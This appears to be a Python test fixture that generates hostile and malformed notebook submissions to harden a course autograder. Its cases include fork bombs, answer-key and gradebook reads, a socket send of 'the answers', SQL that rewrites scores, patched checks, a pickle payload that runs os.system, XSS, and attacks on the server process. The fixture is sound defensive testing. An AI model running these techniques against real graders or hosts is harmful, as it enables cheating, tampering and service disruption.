"""Bad and hostile submissions for the tests of grading.

Each is made from an honest one that deserves the points of tasks 1 and 2. Every case is bounded: it
forks at most two hundred times, writes at most some hundred megabytes and ends by itself, but for
the one that must be stopped.
"""

import copy
import json
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from classroom import hand_in, solution

NAME = "04-obama-reset"
DESERVED = {"1": 1, "2": 2, "3": 0, "4": 0, "5": 0, "6": 0, "7": 0}
NOTHING = dict.fromkeys(DESERVED, 0)
MEGABYTE = 1_000_000
AN_ORDINARY_END = frozenset({"graded"})


@dataclass(frozen=True)
class Case:
    """One submission, and what a grader must make of it.

    Attributes
    ----------
    name : str
    what : str
        What it does, in a few words, for the table in the documentation.
    content : nbformat.NotebookNode or bytes
    statuses : frozenset of str
        Each of them will do; where there are two, the version of Python decides.
    points : dict
        For each task what the answers deserve. After a time-out or a death nobody gets anything.
    says : tuple of str
        Words that the notes, and so the report, must contain.
    """

    name: str
    what: str
    content: object = field(repr=False)
    statuses: frozenset = AN_ORDINARY_END
    points: dict = field(default_factory=lambda: dict(DESERVED))
    says: tuple = ()


def cases(assignment, exercise, root, port, mark):
    """Return the corpus.

    Parameters
    ----------
    assignment, exercise
        As from `classroom.opened`.
    root : path
        The course that is attacked: its solutions, answer key and gradebook lie there.
    port : int
        Where the test listens on the loopback address.
    mark : str
        At most 15 letters. Processes that a case leaves bear this name, files that it writes
        contain it.

    Returns
    -------
    list of Case
    """
    honest = hand_in(exercise, {number: solution(assignment, number) for number in ("1", "2")})
    return [
        *_ends(honest, mark),
        *_damaged(honest),
        *_doctored(honest),
        *_odd(honest),
        *_costly(honest),
        *_accidents(honest, assignment),
        *_nosy(honest, Path(root), port, mark),
        *_liars(honest),
        *_meddlers(honest),
        *_vandals(honest, mark),
    ]


def with_code(notebook, source):
    """Return a copy with a cell of the learner's own before the first task."""
    notebook = copy.deepcopy(notebook)
    place = next(place for place, cell in enumerate(notebook.cells) if cell.id == "parameters")
    notebook.cells.insert(place + 1, nbformat.v4.new_code_cell(source, id="mine"))
    return notebook


def changed(notebook, change):
    """Return a copy, as bytes, to whose JSON a function was applied."""
    content = json.loads(nbformat.writes(notebook))
    change(content, {cell["id"]: cell for cell in content["cells"]})
    return json.dumps(content).encode()


def _code(honest, rows):
    return [
        Case(name, what, with_code(honest, source), frozenset(statuses), points, says)
        for name, what, source, statuses, points, says in rows
    ]


def named(mark):
    """Return code that gives a process, and so its children, a name by which a test finds them."""
    return f"import ctypes, os, signal, time\nctypes.CDLL(None).prctl(15, {mark.encode()!r})\n"


def _ends(honest, mark):
    """Programs that do not come to an end as they should, or take more than their share."""
    bomb = """
for _ in range(200):
    try:
        if not os.fork():
            time.sleep(60)
            os._exit(0)
    except OSError:
        break
"""
    stubborn = """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True: pass
"""
    return _code(
        honest,
        [
            (
                "infinite-loop",
                "a loop without end that ignores signals",
                stubborn,
                {"partly"},
                DESERVED,
                ("a cell of their own", "did not end in its time", "run without it"),
            ),
            ("sys-exit", "`sys.exit()`", "import sys\nsys.exit(0)", {"graded"}, DESERVED, ()),
            (
                "os-exit",
                "`os._exit()`",
                "import os\nos._exit(0)",
                {"partly"},
                DESERVED,
                ("a cell of their own", "ended its own process", "run without it"),
            ),
            (
                "memory-bomb",
                "takes memory without end",
                "hoard = []\nwhile True: hoard.append(bytearray(64 << 20))",
                # A crowded machine gives it no time to reach the end of its memory.
                {"graded", "partly"},
                DESERVED,
                (),
            ),
            ("fork-bomb", "200 processes that stay", named(mark) + bomb, {"graded"}, DESERVED, ()),
            (
                "output-flood",
                "100 MB of output",
                "for _ in range(100): print('x' * 1_000_000)",
                {"graded"},
                DESERVED,
                (),
            ),
        ],
    )


def _damaged(honest):
    """Files that are not what they should be."""
    whole = nbformat.writes(honest).encode()
    text = json.dumps(json.loads(whole), ensure_ascii=False).replace(
        "Mostly the question", "Très certainly the question"
    )
    old = nbformat.writes(nbformat.convert(copy.deepcopy(honest), 3), version=3).encode()
    picture = (
        b'{"output_type": "display_data", "metadata": {}, "data": {"image/png": "'
        + b"iVBORw0K" * (100 * MEGABYTE // 8)
        + b'"}}'
    )
    place = whole.index(b'"outputs": []')
    large = (
        whole[:place] + b'"outputs": [' + picture + b"]" + whole[place + len(b'"outputs": []') :]
    )
    return [
        Case(
            "cut-short",
            "truncated JSON",
            whole[: len(whole) // 2],
            frozenset({"unreadable"}),
            NOTHING,
            ("cut short", "ask for it again"),
        ),
        Case(
            "empty",
            "an empty file",
            b"",
            frozenset({"unreadable"}),
            NOTHING,
            ("empty", "ask for it again"),
        ),
        Case(
            "no-notebook",
            "JSON that is no notebook",
            b'["answers"]',
            frozenset({"unreadable"}),
            NOTHING,
            ("not a Jupyter notebook",),
        ),
        Case(
            "nested",
            "a hundred thousand brackets",
            b"[" * 100_000,
            frozenset({"unreadable"}),
            NOTHING,
            ("cannot be read", "ask for it again"),
        ),
        Case(
            "format-3",
            "nbformat 3",
            old,
            frozenset({"repaired"}),
            DESERVED,
            ("old notebook format 3", "converted"),
        ),
        Case(
            "format-99",
            "nbformat 99",
            changed(honest, lambda whole, cells: whole.update(nbformat=99)),
            frozenset({"unreadable"}),
            NOTHING,
            ("not known", "saved again"),
        ),
        Case(
            "latin-1",
            "bytes that are not UTF-8",
            text.encode("latin-1"),
            frozenset({"repaired"}),
            DESERVED,
            ("UTF-8",),
        ),
        Case("large-outputs", "100 MB of base64 in the outputs", large),
    ]


def _doctored(honest):
    """Notebooks whose cells were changed, by accident or not."""
    missing, doubled, edited, kernel = (copy.deepcopy(honest) for _ in range(4))
    missing.cells = [cell for cell in missing.cells if cell.id != "task-2"]
    task = next(place for place, cell in enumerate(doubled.cells) if cell.id == "task-2")
    doubled.cells.insert(task + 1, copy.deepcopy(doubled.cells[task]))
    for cell in edited.cells:
        if cell.id.startswith("check-"):
            cell.source = "pass"
            cell.metadata.nbgrader.update(points=50, locked=False)
    kernel.metadata.kernelspec = {"name": "sage", "display_name": "Sage", "language": "python"}
    script = copy.deepcopy(honest)
    script.cells.append(
        nbformat.v4.new_markdown_cell(
            "<script>document.title = 'stolen'</script><img src=x onerror=alert(1)>", id="mine"
        )
    )
    for cell in script.cells:
        if cell.cell_type == "code":
            cell.outputs = [
                nbformat.v4.new_output(
                    "display_data", {"text/html": "<script>stored_by_a_learner()</script>"}
                )
            ]
    return [
        Case(
            "deleted-cell",
            "a graded cell is missing",
            missing,
            frozenset({"repaired"}),
            DESERVED | {"2": 0},
            ("task-2 was missing", "not answered"),
        ),
        Case(
            "doubled-cell",
            "a graded cell stands twice",
            doubled,
            frozenset({"repaired"}),
            DESERVED,
            ("task-2 stood 2 times",),
        ),
        Case(
            "edited-checks",
            "emptied checks, worth 50 points each",
            edited,
            frozenset({"repaired"}),
            DESERVED,
            ("check-1", "was restored"),
        ),
        Case(
            "kernel",
            "the name of another kernel",
            kernel,
            frozenset({"repaired"}),
            DESERVED,
            ("kernel 'sage'",),
        ),
        Case("script", "a script in Markdown and in stored outputs", script),
    ]


def _odd(honest):
    """Well-formed JSON of which a program does not think."""

    def without_source(content, cells):
        del cells["task-2"]["source"]

    def numbers(content, cells):
        cells["task-2"]["source"] = cells["essay"]["source"] = 7

    def no_table(content, cells):
        content["metadata"]["kernelspec"] = "python3"

    def half_letter(content, cells):
        cells["task-3"]["source"] = "verdict = '\ud800'"

    return [
        Case(
            "no-source",
            "a task's cell without a source",
            changed(honest, without_source),
            frozenset({"graded", "repaired", "unreadable"}),
            DESERVED | {"2": 0},
        ),
        Case(
            "numbers",
            "numbers where text belongs",
            changed(honest, numbers),
            frozenset({"graded", "repaired", "unreadable"}),
            DESERVED | {"2": 0},
        ),
        Case(
            "kernel-text",
            "a kernel that is no table",
            changed(honest, no_table),
            frozenset({"graded", "repaired"}),
            DESERVED,
        ),
        Case("half-letter", "half of a Unicode letter in a cell", changed(honest, half_letter)),
        *_code(
            honest,
            [
                (
                    "half-letter-said",
                    "half of a Unicode letter in the output",
                    r"print('\ud800')",
                    {"graded"},
                    DESERVED,
                    (),
                )
            ],
        ),
    ]


def _costly(honest):
    """Small files that take hours or all memory from a reader who does not take care."""

    def tags(content, cells):
        cells["task-1"]["metadata"]["tags"] = [1, "a", [1], {"b": 1}] * 4000

    def objects(content, cells):
        content["metadata"]["x"] = [{}] * 1_000_000

    def more_objects(content, cells):
        content["metadata"]["x"] = [{}] * 20_000_000

    def sheets(content, cells):
        content["worksheets"] = [{"cells": []}]
        more = {"cell_type": "markdown", "metadata": {}, "source": "more"}
        content["cells"] += [more] * 30_000

    def letters(content, cells):
        cells["task-3"]["source"] = "#" * 6_000_000

    def addresses(content, cells):
        cells["essay"]["source"] = "](" * 1_000_000

    long_number = nbformat.writes(honest).replace('"nbformat": 4', f'"nbformat": {"4" * 5000}')
    unreadable = frozenset({"unreadable"})
    return [
        Case("tags", "sixteen thousand tags of mixed types", changed(honest, tags)),
        Case("objects-3-mb", "a million objects in the metadata", changed(honest, objects)),
        Case(
            "objects-80-mb",
            "twenty million objects in the metadata",
            changed(honest, more_objects),
            frozenset({"graded", "unreadable"}),
        ),
        Case(
            "sheets",
            "30,000 cells beside an empty sheet of an old format",
            changed(honest, sheets),
            unreadable,
            says=("30055 cells", "ask for it again"),
        ),
        Case(
            "letters",
            "a cell of six million letters",
            changed(honest, letters),
            unreadable,
            says=("6 million letters", "ask for it again"),
        ),
        Case("addresses", "an essay of a million `](`", changed(honest, addresses)),
        Case(
            "long-number",
            "a number of five thousand digits",
            long_number.encode(),
            unreadable,
            says=("format that is not known",),
        ),
    ]


def _accidents(honest, assignment):
    """What honest people do: a loop that does not end, a split cell, a library of their own."""

    def with_answer(number, source):
        notebook = copy.deepcopy(honest)
        next(cell for cell in notebook.cells if cell.id == f"task-{number}").source = source
        return notebook

    def split(first, second):
        notebook = copy.deepcopy(honest)
        place = next(place for place, cell in enumerate(notebook.cells) if cell.id == "task-2")
        notebook.cells.insert(place + 1, copy.deepcopy(notebook.cells[place]))
        notebook.cells[place].source, notebook.cells[place + 1].source = first, second
        return notebook

    right = solution(assignment, "2")
    head, _, body = right.partition("\n")
    pictures = "import matplotlib.pyplot as plt\n%matplotlib inline\nfig, ax = plt.subplots()\n"
    table = 'import pandas as pd\nevents = pd.read_csv("../../data/events.csv")\nlen(events)\n'
    partly, repaired = frozenset({"partly"}), frozenset({"repaired"})
    return [
        Case(
            "loop-in-a-task",
            "a loop without end in the cell of one task",
            with_answer("5", "while True: pass"),
            partly,
            says=("task-5 did not end in its time",),
        ),
        Case(
            "loop-in-a-function",
            "a loop without end in a function that a check calls",
            with_answer("5", "def share_below(of_year, than):\n    while True: pass"),
            partly,
            says=("check-5 did not end in its time",),
        ),
        Case(
            "exit-in-a-function",
            "`os._exit()` in a function that a check calls",
            with_answer(
                "5", "import os\ndef share_below(of_year, than):\n    os._exit(0)\n    return 1"
            ),
            partly,
            says=("check-5 ended its own process",),
        ),
        *(
            Case(
                f"{error}-in-a-function",
                f"`{error}` in a function that a check calls",
                with_answer("5", f"def share_below(of_year, than): raise {error}"),
            )
            for error in ("SystemExit", "KeyboardInterrupt")
        ),
        Case(
            "split-cell",
            "a cell of a task split in two",
            split("def help_me(value):\n    return value", f"{right}\nhelp_me(1)"),
            repaired,
            says=("task-2 stood in 2 pieces, which were joined in their order",),
        ),
        Case(
            "split-function",
            "a cell split inside its function",
            split(head, body),
            repaired,
            says=("joined in their order",),
        ),
        Case(
            "second-try",
            "a broken first try above the right one, both with the name of the task",
            split("def change_over(term:", right),
            repaired,
            says=("the last with an answer was taken",),
        ),
        Case("relative-data", "reads `../../data/events.csv`", with_answer("2", table + right)),
        Case(
            "pictures",
            "draws by matplotlib in the cell of a task",
            with_answer("2", pictures + right),
            says=("matplotlib is not part of the kit",),
        ),
        Case(
            "library",
            "imports a library that the kit has not",
            with_code(honest, "import no_such_library"),
            partly,
            says=("no_such_library is not part of the kit", "this cell stopped there"),
        ),
    ]


def _nosy(honest, root, port, mark):
    """Code that looks for answers, calls out, or writes where it should not."""
    key = root / "solutions" / NAME / "key.json"
    peek = f"""
import json, os, pathlib, sys
import resetcycle
kit = pathlib.Path(resetcycle.__file__).parent.parent
places = [pathlib.Path({str(root)!r}), kit, *pathlib.Path.cwd().parents]
key = {{}}
for place in places:
    try:
        key = json.loads((place / "solutions" / "{NAME}" / "key.json").read_text())["accepted"]
        break
    except OSError:
        pass
books = [str(place) for place in places if (place / "grading" / "gradebook.db").exists()]
print("SEEN" if key else "not seen", books)
"""
    reader = with_code(honest, peek)
    for cell in reader.cells:
        if cell.id in ("task-3", "task-6"):
            name, number = ("verdict", "3") if cell.id == "task-3" else ("carried", "6")
            cell.source += f'\nif key: {name} = dict(zip({name}, key["{number}"]["{name}"]))'
    call = f"""
import socket
for family, place in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET, ("192.0.2.1", 53))):
    try:
        with socket.create_connection(place, timeout=1) as line: line.sendall(b"the answers")
    except OSError as error:
        print(error)
"""
    write = f"""
import pathlib, resetcycle
here = pathlib.Path(resetcycle.__file__).parent
own = [pathlib.Path({str(root)!r}), pathlib.Path({str(key.parent)!r})]
kit = [here, here.parent / "data", here.parent / "exercises"]
for place in (*own, *kit, pathlib.Path("/etc"), pathlib.Path("/")):
    try:
        place.mkdir(parents=True, exist_ok=True)
        (place / "{mark}").write_text("{mark}")
    except OSError as error:
        print(error)
"""
    book = f"""
import os, sqlite3
try:
    with sqlite3.connect("file:{root}/grading/gradebook.db?mode=rw", uri=True) as book:
        book.execute("update grade set manual_score = 99, auto_score = 99")
        book.execute("update grade_cells set max_score = 99")
except sqlite3.Error as error:
    print(error)
"""
    return [
        Case("reads-solutions", "reads the solutions, the answer key and the gradebook", reader),
        *_code(
            honest,
            [
                ("network", "sends over the network", call, {"graded"}, DESERVED, ()),
                ("writes-outside", "writes outside its folder", write, {"graded"}, DESERVED, ()),
                ("gradebook", "writes into the gradebook", book, {"graded"}, DESERVED, ()),
            ],
        ),
    ]


def _liars(honest):
    """Code that changes what a check would compare, or answers with objects that equal all."""
    builtins = """
import builtins
builtins.abs = lambda value: 0
builtins.len = lambda value: 1
builtins.isinstance = lambda value, kind: True
builtins.round = lambda *value: 0
"""
    helpers = """
import resetcycle as rc
rc.check = lambda *anything, **more: print("Task is right.")
import resetcycle.exercise.calls, resetcycle.exercise.check, resetcycle.exercise.explain
rooms = rc.exercise
rooms.calls.plain = rooms.calls.taken = lambda *anything: [0.0]
rooms.keys.Keys.accepts = rooms.keys.Keys.earns = lambda *anything: True
rooms.explain.explain = rooms.check.explain = lambda *anything: ""
"""
    windows = """
import pandas as pd
class All(dict):
    def __missing__(self, key): return 0
    def __eq__(self, other): return True
terms = ["obama", "trump1", "clinton", "biden", "bush43"]
windows = pd.DataFrame({"term_id": terms, "start": 0.0, "middle": 0.0, "end": 0.0})
rc.trajectory.term_windows = lambda: windows
"""
    objects = """
class Yes(float):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True
    __hash__ = lambda self: 0
    __repr__ = __str__ = lambda self: "0.2222222222222222"
    __reduce__ = lambda self: (__import__("os").system, ("touch pickled",))
    __sub__ = __rsub__ = lambda self, other: Yes(0)
    __round__ = lambda self, *places: 0
class Word(str):
    __eq__ = lambda self, other: True
    __hash__ = lambda self: 0
class Table(dict):
    __contains__ = lambda self, key: True
    __getitem__ = lambda self, key: Word("closer")
    __missing__ = __getitem__
    __eq__ = lambda self, other: True
    __iter__ = lambda self: iter(())
"""
    liar = with_code(honest, objects)
    answers = {
        "task-3": "verdict = Table()",
        "task-4": "def scaled(values): return [Yes(0)] * 4",
        "task-5": "def share_below(of_year, than): return Yes(0)",
        "task-6": "carried = Table()",
    }
    for cell in liar.cells:
        cell.source = answers.get(cell.id, cell.source)
    return [
        *_code(
            honest,
            [
                (
                    "builtins",
                    "replaces abs, len, isinstance and round",
                    builtins,
                    {"graded", "partly"},
                    DESERVED,
                    (),
                ),
                (
                    "helpers",
                    "replaces `rc.check` and what it calls",
                    helpers,
                    {"graded"},
                    NOTHING,
                    (),
                ),
                (
                    "windows",
                    "replaces a function of the kit that answers rest on",
                    windows,
                    {"graded"},
                    NOTHING,
                    (),
                ),
            ],
        ),
        Case("objects", "objects that equal everything and lie about themselves", liar),
    ]


def _meddlers(honest):
    """Code that changes how later cells are run, or speaks in the name of what runs them."""
    transformer = """
import ast
class Skip(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.Pass() if "check" in ast.dump(node) else node
get_ipython().ast_transformers.append(Skip())
"""
    hooks = """
shell = get_ipython()
def without(lines):
    return ["pass\\n"] if any("rc.check" in line for line in lines) else lines
def forgive(result):
    result.error_in_exec = result.error_before_exec = None
shell.input_transformers_post.append(without)
shell.events.register("pre_run_cell", lambda info: setattr(info, "raw_cell", "pass"))
shell.events.register("post_run_cell", forgive)
"""
    run_cell = """
shell, run_cell, run_async = get_ipython(), get_ipython().run_cell, get_ipython().run_cell_async
def without(run):
    return lambda source, *more, **options: run(
        "pass" if "rc.check" in source else source, *more, **options)
shell.run_cell, shell.run_cell_async = without(run_cell), without(run_async)
"""
    full = {f"check-{number}": {"points": 100, "of": 1, "said": "right"} for number in DESERVED}
    claimed = {"status": "ran", "report": {"values": full, "said": {}}, "tasks": full}
    prints = f"""
import sys
for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
    print({json.dumps(claimed)!r}, file=stream, flush=True)
    print("12/12 points", file=stream, flush=True)
"""
    write = """
import os
for descriptor in range(256):
    try: os.write(descriptor, %s)
    except OSError: pass
"""
    deep = 'b"[" * 988 + b"]" * 988 + b"\\n"'
    fake = json.dumps(
        {
            "said": [1],
            "values": full
            | {
                "check-1": {"end_of(president)": {"entries": [1e400]}},
                "check-2": {"change_over(president)": {"fault": "\ud800"}},
            },
        }
    )
    return _code(
        honest,
        [
            (
                "ast-transformer",
                "an IPython transformer that leaves out checks",
                transformer,
                {"graded"},
                DESERVED,
                (),
            ),
            ("hooks", "IPython hooks on input and on cells", hooks, {"graded"}, DESERVED, ()),
            ("run-cell", "replaces `run_cell`", run_cell, {"graded"}, DESERVED, ()),
            ("fake-prints", "prints results", prints, {"graded"}, DESERVED, ()),
            (
                "junk",
                "writes junk to every descriptor",
                write % 'b"\\xff junk\\n"',
                {"graded"},
                DESERVED,
                (),
            ),
            (
                "deep-report",
                "reports brackets in brackets",
                write % deep,
                {"graded"},
                DESERVED,
                (),
            ),
            (
                "fake-report",
                "reports numbers that are none",
                write % f"{fake!r}.encode() + b'\\n'",
                {"graded"},
                DESERVED,
                (),
            ),
        ],
    )


def _vandals(honest, mark):
    """Code that harms the program that runs it, or those who come after."""
    signals = """
import os, signal
for number in range(1, 65):
    for process in (1, os.getppid()):
        try:
            if process > 0: os.kill(process, number)
        except (OSError, ValueError): pass
"""
    daemon = """
if not os.fork():
    os.setsid()
    for number in set(range(1, 65)) - {signal.SIGKILL, signal.SIGSTOP, 32, 33}:
        signal.signal(number, signal.SIG_IGN)
    if os.fork(): os._exit(0)
    begun = time.monotonic()
    while time.monotonic() < begun + 60:
        for descriptor in range(4, 64):
            try: os.write(descriptor, b'{"values": {}, "said": {}}\\n')
            except OSError: pass
        try: open("/scratch/%f" % time.monotonic(), "w").write("x" * 1000)
        except OSError: pass
        time.sleep(0.01)
    os._exit(0)
"""
    return _code(
        honest,
        [
            (
                "signals",
                "sends every signal to the server",
                signals,
                {"graded", "died"},
                DESERVED,
                (),
            ),
            (
                "daemon",
                "leaves a process that would answer for the next",
                named(mark) + daemon,
                {"graded", "died"},
                DESERVED,
                (),
            ),
            *(
                (f"leaves-{name}", what, source, {"graded", "died"}, DESERVED, ())
                for name, what, source in LEFT_BEHIND
            ),
        ],
    )


# What would outlive a process: name, what it is, and code that does it.
LEFT_BEHIND = (
    (
        "locked-folder",
        "fills the scratch folder and locks it",
        """
import os
os.makedirs("/scratch/mine/more")
with open("/scratch/mine/fill", "wb") as file:
    for _ in range(60): file.write(bytes(1 << 20))
os.chmod("/scratch/mine/more", 0)
os.chmod("/scratch/mine", 0o300)
""",
    ),
    (
        "deep-folder",
        "nests folders two thousand deep",
        """
import os
for _ in range(2000):
    os.mkdir("d")
    os.chdir("d")
os.chdir("/scratch")
""",
    ),
    (
        "shared-memory",
        "keeps shared memory of the system",
        """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
ctypes.memmove(libc.shmat(libc.shmget(4242, 1 << 20, 0o1666), None, 0), b"answers", 7)
""",
    ),
    (
        "limits",
        "lowers the limits of the server",
        """
import resource
for what, most in ((resource.RLIMIT_DATA, 1 << 20), (resource.RLIMIT_NOFILE, 20)):
    resource.prlimit(1, what, (most, most))
""",
    ),
    (
        "last-in-the-queue",
        "puts the server last in the queue for a processor",
        """
import os
os.sched_setaffinity(1, {min(os.sched_getaffinity(1))})
os.setpriority(os.PRIO_PROCESS, 1, 19)
os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))
""",
    ),
)
